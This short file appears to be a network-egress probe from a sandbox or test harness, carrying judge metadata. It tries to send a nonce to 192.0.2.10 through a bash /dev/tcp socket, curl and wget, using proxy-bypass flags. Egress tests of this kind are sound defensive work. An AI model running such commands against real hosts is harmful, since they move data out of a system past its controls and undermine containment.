# Sends data outside with the shell's own sockets and with whatever client is installed.
#
# family: network
# arguments: {nonce}
# judge: hit outside {nonce}
# trace: 192.0.2.10
bash -c "exec 3<>/dev/tcp/192.0.2.10/443; echo $1 >&3; cat <&3"
curl -s -m 3 --noproxy '*' "http://192.0.2.10:443/$1"
wget -q -T 3 -O - --no-proxy "http://192.0.2.10:443/$1"
true
